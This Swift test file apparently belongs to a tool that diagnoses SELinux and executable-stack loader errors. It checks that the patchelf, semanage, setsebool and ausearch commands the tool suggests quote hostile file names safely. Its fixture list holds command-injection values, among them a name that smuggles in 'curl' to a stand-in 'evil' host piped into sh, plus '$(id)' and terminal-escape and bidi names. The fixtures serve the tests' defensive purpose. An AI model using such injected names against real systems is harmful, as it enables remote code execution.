import Foundation
import Testing
import AuditInput
import AuditEvents
import ELFLoader
import TestSupport
@testable import Diagnosis

/// Names a crafted log or file system can hold, and whether no line can show them safely
/// (control and bidi characters: the command must be omitted).
let hostileNames: [(name: String, unsafe: Bool)] = [
    ("libx.so;curl${IFS}evil|sh;#", false), ("a;b", false), ("a|b", false), ("a&b", false), ("a`id`b", false),
    ("a$(id)b", false), ("a${IFS}b", false), ("a'b", false), ("a\"b", false), ("a b", false), ("*", false),
    ("-rf", false), ("plain-1.2.so", false), ("a\nb", true), ("a\u{1b}[2Jb", true), ("a\u{202e}os.b", true),
]

/// Each name as an absolute path, as a bare name (relative, so `-rf` can lead), and `/*`.
let hostilePaths: [(path: String, unsafe: Bool)] =
    hostileNames.flatMap { [("/opt/lib/" + $0.name, $0.unsafe), ($0.name, $0.unsafe)] } + [("/*", false)]

/// How a path is meant to reach the command: one word, never an option.
func pathArgument(_ path: String) -> String { path.hasPrefix("-") ? "./" + path : path }

func holdsControlOrBidi(_ s: String) -> Bool { s.unicodeScalars.contains { $0.isControlOrBidi } }

/// The line is either omitted (a harmless comment naming no value) or runs exactly `expected`.
func expectPasted(_ line: String, unsafe: Bool, _ expected: [[String]], sourceLocation: Testing.SourceLocation = #_sourceLocation) throws {
    #expect(!holdsControlOrBidi(line), "\(line.debugDescription)", sourceLocation: sourceLocation)
    let ran = try PastedCommand.argvs(of: line)
    if unsafe {
        #expect(line.hasPrefix("# command omitted: "), "\(line.debugDescription)", sourceLocation: sourceLocation)
        #expect(ran.isEmpty, sourceLocation: sourceLocation)
    } else {
        let sorted = expected.sorted { $0.joined(separator: "\0") < $1.joined(separator: "\0") }
        #expect(ran == sorted, "\(line.debugDescription)", sourceLocation: sourceLocation)
    }
}

@Suite struct ShellCommandTests {
    @Test func safeWordsStayBareOthersAreQuoted() {
        #expect(ShellCommand(["patchelf", "--clear-execstack", .path("/usr/lib/x86_64-linux-gnu/libz.so.1")]).line
            == "patchelf --clear-execstack /usr/lib/x86_64-linux-gnu/libz.so.1")
        #expect(ShellCommand(["lddtree", .path("/opt/a'b c")]).line == #"lddtree '/opt/a'\''b c'"#)
        #expect(ShellCommand(["lddtree", .path("-x")]).line == "lddtree ./-x")
        #expect(ShellCommand(["ausearch", "-c", .value("-x")]).line == "ausearch -c '-x'")
        #expect(ShellCommand(["ausearch", "-c", .value("")]).line == "ausearch -c ''")
        #expect(ShellCommand(["lddtree", .path("/a\u{2066}b")]).rendered == "# command omitted: the path holds a control or bidirectional-text character")
    }

    @Test(arguments: hostilePaths.map(\.path))
    func commandsForAnotherHost(_ exe: String) throws {
        let unsafe = hostilePaths.first { $0.path == exe }!.unsafe
        let a = pathArgument(exe)
        let lines = Diagnoser.commandsForOtherHost(exe)
        try #require(lines.count == 4)
        try expectPasted(lines[0], unsafe: unsafe, [["readelf", "-lW", a], ["grep", "GNU_STACK"]])
        try expectPasted(lines[1], unsafe: unsafe, [["readelf", "-dW", a], ["grep", "-E", "NEEDED|RPATH|RUNPATH|TEXTREL"]])
        try expectPasted(lines[2], unsafe: unsafe, [["lddtree", a]])
        try expectPasted(lines[3], unsafe: unsafe, [["lddtree", "-l", a], ["scanelf", "-qeR", "LIB"]])
        // With the host's packaging known, the owner's command too: every line of the five is
        // the stand-in rendering with this path put in, so each is checked again.
        for (source, owner) in [("installed-rpms", ["rpm", "-qf", a]), ("sos_commands/dpkg/dpkg_-l", ["dpkg", "-S", a])] {
            var host = HostFacts()
            host.glibcVersion = HostFacts.Fact("2.34", from: source)
            let withOwner = Diagnoser.commandsForOtherHost(exe, host: host)
            try #require(withOwner.count == 5)
            #expect(Array(withOwner.prefix(4)) == lines)
            try expectPasted(withOwner[4], unsafe: unsafe, [owner])
        }
    }

    /// Every fix of every mechanism, with culprits of every kind at a hostile path.
    @Test(arguments: hostilePaths.map(\.path))
    func fixesForEveryMechanism(_ path: String) throws {
        let unsafe = hostilePaths.first { $0.path == path }!.unsafe
        let culprits = [Culprit.Reason.gnuStackExecutable, .gnuStackMissing, .textRelocations, .rwxSegment, .jitLibrary, .deniedFile].map {
            Culprit(path: path, reason: $0, detail: "", chain: [path], foundVia: ["ld.so.cache"], jit: JITComponent(name: "X", offSwitch: "off"))
        }
        let permissions: Set<Permission> = [.execstack, .execmem, .execheap, .execmod]
        var templatesSeen: Set<String> = []
        for mechanism in Mechanism.allCases {
            let booleans = PolicyKnowledge.booleans(for: permissions, domain: "unconfined_t")
            for fix in Advice.fixes(mechanism: mechanism, permissions: permissions, culprits: culprits, booleans: booleans, domain: "unconfined_t") {
                for line in fix.commands {
                    let name = String(line.prefix { $0 != " " })
                    templatesSeen.insert(name)
                    let expected: [String]
                    var holdsPath = true
                    switch name {
                    case "patchelf": expected = ["patchelf", "--clear-execstack", pathArgument(path)]
                    case "execstack": expected = ["execstack", "-c", pathArgument(path)]
                    case "restorecon": expected = ["restorecon", "-v", pathArgument(path)]
                    case "setsebool":
                        expected = try #require(booleans.first { line.contains(" \($0.name) ") }).argv
                        holdsPath = false
                    case "semanage":
                        let ran = try PastedCommand.argvs(of: line)
                        try #require(ran.count == 1 && ran[0].count == 6)
                        #expect(Array(ran[0].prefix(5)) == ["semanage", "fcontext", "-a", "-t", "textrel_shlib_t"])
                        #expect(try fileContextPatternMatches(ran[0][5], only: path), "\(ran[0][5])")
                        continue
                    default:
                        #expect(unsafe && name == "#", "an unexpected command: \(line)")
                        continue
                    }
                    try expectPasted(line, unsafe: unsafe && holdsPath, [expected])
                }
            }
        }
        let required: Set<String> = unsafe ? ["#", "setsebool"] : ["patchelf", "execstack", "semanage", "restorecon", "setsebool"]
        #expect(required.isSubset(of: templatesSeen), "\(templatesSeen)")
    }

    /// semanage reads the pattern as a PCRE regular expression matched against the whole path:
    /// it must match this path and none of the strings an unescaped `.`, `|` or `*` would let in.
    private func fileContextPatternMatches(_ pattern: String, only path: String) throws -> Bool {
        func matches(_ text: String) throws -> Bool {
            try Shell.run("/bin/grep", ["-xcP", "-e", pattern], input: Data(text.utf8)).stdout == "1\n"
        }
        let others = ["b", "x", "/opt/lib/", path.replacing(".", with: "x"), String(path.dropLast()) + (path.last == "x" ? "y" : "x")]
        return try matches(path) && others.filter { $0 != path }.allSatisfy { try !matches($0) }
    }

    @Test func everyBooleanCommandParses() throws {
        let domains = [nil] + PolicyKnowledge.serviceBooleans.flatMap(\.domains)
        for domain in domains {
            for b in PolicyKnowledge.booleans(for: [.execstack, .execmem, .execheap, .execmod], domain: domain) {
                try expectPasted(b.command, unsafe: false, [b.argv])
            }
        }
    }

    @Test func glibcTunableCommandParses() throws {
        let line = try #require(Advice.execstackTunable(program: nil).commands.first)
        #expect(try Shell.run("/bin/sh", ["-n", "-c", line]).status == 0)
    }

    /// `ausearch … -c NAME` in what would settle a loader message's finding, quoted (the name
    /// cut to the kernel's comm, which `ausearchFilterIsTheKernelsComm` pins).
    @Test(arguments: hostileNames.filter { !$0.name.contains(" ") && !$0.name.contains("\n") }.map(\.name))
    func evidenceNeededNamesTheProgramQuoted(_ name: String) throws {
        let unsafe = hostileNames.first { $0.name == name }!.unsafe
        let empty = try TemporaryDirectory()
        var diagnoser = Diagnoser(loader: LoaderSearch(root: FileSystemRoot(directory: empty.path)))
        let text = "/usr/bin/\(name): error while loading shared libraries: libx.so: cannot enable executable stack as shared object requires: Permission denied"
        diagnoser.add(try #require(LoaderMessage.parse(text, source: AuditInput.SourceLocation(input: "t", line: 1))))
        let needed = try #require(diagnoser.results.first?.evidenceNeeded.first { $0.hasPrefix("the AVC record: ") })
        let command = String(needed.dropFirst("the AVC record: ".count))
        if unsafe {
            #expect(command.hasPrefix("(command omitted: ") && !holdsControlOrBidi(command), "\(command.debugDescription)")
        } else {
            try expectPasted(command, unsafe: false, [["ausearch", "-m", "avc", "-ts", "recent", "-c", Advice.comm(of: name), "--raw"]])
        }
    }

    /// The kernel keeps 15 bytes of a program's file name as its comm, and `ausearch -c` matches
    /// that, so the filter is cut the same way (on a character boundary).
    @Test(arguments: [("a-very-long-program-name", "a-very-long-pro"), ("short", "short"),
                      ("exactly15bytes!", "exactly15bytes!"), ("fourteen-bytesé-more", "fourteen-bytes")])
    func ausearchFilterIsTheKernelsComm(_ name: String, _ comm: String) throws {
        let empty = try TemporaryDirectory()
        var diagnoser = Diagnoser(loader: LoaderSearch(root: FileSystemRoot(directory: empty.path)))
        let text = "/opt/app/bin/\(name): error while loading shared libraries: libx.so: cannot enable executable stack as shared object requires: Permission denied"
        diagnoser.add(try #require(LoaderMessage.parse(text, source: AuditInput.SourceLocation(input: "t", line: 1))))
        let needed = try #require(diagnoser.results.first?.evidenceNeeded.first { $0.hasPrefix("the AVC record: ") })
        try expectPasted(String(needed.dropFirst("the AVC record: ".count)), unsafe: false,
                         [["ausearch", "-m", "avc", "-ts", "recent", "-c", comm, "--raw"]])
        #expect(diagnoser.results.first?.process.comm == comm)
    }
}

extension PolicyBoolean {
    var argv: [String] { ["setsebool", "-P", name, allowingValue ? "on" : "off"] }
}
